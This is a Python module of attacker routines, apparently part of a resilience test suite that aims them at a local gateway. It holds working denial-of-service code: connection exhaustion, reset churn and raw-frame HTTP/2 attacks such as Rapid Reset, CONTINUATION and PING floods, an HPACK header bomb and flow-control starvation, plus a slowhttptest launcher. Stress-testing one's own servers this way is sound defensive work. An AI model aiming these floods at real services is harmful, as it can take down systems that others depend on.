"""Attackers for hostile.py. Each runs in processes of its own until it is killed, as fast as one core lets it."""
import os, selectors, socket, ssl, struct, subprocess, time

SOURCES = [f"127.0.0.{n}" for n in range(2, 6)]
SHORT_OF_PORTS = 0.01


def dial(port, number):
    """A connection under way, from one of several addresses."""
    own = socket.socket()
    own.setblocking(False)
    own.setsockopt(socket.IPPROTO_IP, getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24), 1)
    own.bind((SOURCES[number % len(SOURCES)], 0))
    own.connect_ex(("127.0.0.1", port))
    return own


def crowd(port, count, first, tally):
    """Holds this many connections open, each of which says `first` and then nothing. What is closed is opened again."""
    poll = selectors.EpollSelector()
    missing = count
    while True:
        for _ in range(min(missing, 200)):
            try:
                own = dial(port, tally["opened"])
            except OSError:
                time.sleep(SHORT_OF_PORTS)
                break
            tally["opened"] += 1
            missing -= 1
            poll.register(own, selectors.EVENT_READ | (selectors.EVENT_WRITE if first else 0))
        for key, what in poll.select(0 if missing else 1):
            try:
                if what & selectors.EVENT_WRITE:
                    key.fileobj.send(first)
                    poll.modify(key.fileobj, selectors.EVENT_READ)
                elif key.fileobj.recv(4096):
                    continue
                else:
                    raise OSError
            except BlockingIOError:
                pass
            except OSError:
                poll.unregister(key.fileobj)
                key.fileobj.close()
                tally["closed"] += 1
                missing += 1


def churn(port, tally):
    """Opens connections and resets them."""
    while True:
        batch = []
        for _ in range(50):
            try:
                batch.append(dial(port, tally["opened"]))
                tally["opened"] += 1
            except OSError:
                time.sleep(SHORT_OF_PORTS)
        for own in batch:
            own.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            own.close()


# HTTP/2 (RFC 9113), as much as an attacker needs.

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value, indexed=False):
    def text(octets):
        return (bytes([len(octets)]) if len(octets) < 127 else b"\x7f" + variable(len(octets) - 127)) + octets
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def variable(number):
    out = b""
    while number >= 128:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def head(path, scheme, method=b"GET"):
    return literal(b":method", method) + literal(b":scheme", scheme) + literal(b":authority", b"localhost") + literal(b":path", path)


def greeting(*settings):
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *setting) for setting in settings))


def streams(count):
    return range(1, 2 * count, 2)


def rapid_reset(scheme):
    cancel = struct.pack(">I", 8)
    return greeting() + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, head(b"/fast", scheme)) + frame(RESET, 0, s, cancel)
                                 for s in streams(4000))


def broken_requests(scheme):
    """The client breaks a rule, so that the gateway resets the stream (the way round a limit on the client's resets)."""
    return greeting() + b"".join(frame(HEADERS, END_HEADERS, s, head(b"/fast", scheme, b"POST")) + frame(WINDOW_UPDATE, 0, s, bytes(4))
                                 for s in streams(4000))


def continuation_flood(scheme):
    return greeting() + frame(HEADERS, 0, 1, head(b"/fast", scheme)) + frame(CONTINUATION, 0, 1) * 20000


def continuation_growth(scheme):
    return greeting() + frame(HEADERS, 0, 1, head(b"/fast", scheme)) + frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 16000)) * 60


def ping_flood(_):
    return greeting() + frame(PING, 0, 0, b"12345678") * 20000


def settings_flood(_):
    return greeting() + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 20000


def priority_flood(_):
    return greeting() + b"".join(frame(PRIORITY, 0, s, struct.pack(">IB", 0, 1)) for s in streams(20000))


def empty_data(scheme):
    return greeting() + frame(HEADERS, END_HEADERS, 1, head(b"/fast", scheme, b"POST")) + frame(DATA, 0, 1) * 20000


def header_bomb(scheme):
    """One large entry in the table, named thousands of times in few octets (RFC 7541, section 7.3)."""
    plant = frame(HEADERS, END_STREAM | END_HEADERS, 1, head(b"/fast", scheme) + literal(b"bomb", b"b" * 3900, indexed=True))
    return greeting() + plant + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, s, head(b"/fast", scheme) + b"\xbe" * 8000) for s in list(streams(100))[1:])


def large_heads(scheme):
    return greeting() + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, s, head(b"/fast", scheme) + literal(b"x", b"y" * 16300)) for s in streams(100))


def tiny_windows(scheme):
    """Large answers, one octet at a time."""
    ask = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, head(b"/large", scheme)) for s in streams(100))
    more = b"".join(frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 1)) for s in streams(100))
    return greeting((4, 1)) + ask + more * 200


def no_window(scheme):
    """Large answers that are never read: what the gateway holds for them must not be much, and not be others' share."""
    return greeting((4, 0)) + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, head(b"/large", scheme)) for s in streams(100))


def frames(port, blob, connections, again, tally, secure=False):
    """Sends the same octets on each of several connections. `again` says when a new one takes the place of one that has
    sent all: at once, or only when the gateway has closed it."""
    poll = selectors.EpollSelector()
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])

    def open_one():
        own = dial(port, tally["opened"])
        tally["opened"] += 1
        if secure:
            own = context.wrap_socket(own, do_handshake_on_connect=False, server_hostname="localhost")
        poll.register(own, selectors.EVENT_READ | selectors.EVENT_WRITE, [0, not secure])

    missing = connections
    while True:
        while missing:
            try:
                open_one()
                missing -= 1
            except OSError:
                time.sleep(SHORT_OF_PORTS)
        for key, what in poll.select(1):
            own, state = key.fileobj, key.data
            try:
                if not state[1]:
                    own.do_handshake()
                    state[1] = True
                if what & selectors.EVENT_READ and not own.recv(65536):
                    raise OSError
                if what & selectors.EVENT_WRITE and state[0] < len(blob):
                    sent = own.send(blob[state[0]:state[0] + 65536])
                    state[0] += sent
                    tally["bytes"] += sent
                    if state[0] >= len(blob):
                        if again:
                            raise OSError
                        poll.modify(own, selectors.EVENT_READ, state)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                poll.unregister(own)
                own.close()
                tally["closed"] += 1
                missing += 1


def slowhttptest(port, *options):
    devnull = open(os.devnull, "w")
    os.dup2(devnull.fileno(), 1)
    path = options[-1]
    os.execvp("slowhttptest", ["slowhttptest", *options[:-1], "-l", "3600", "-u", f"http://127.0.0.1:{port}{path}"])
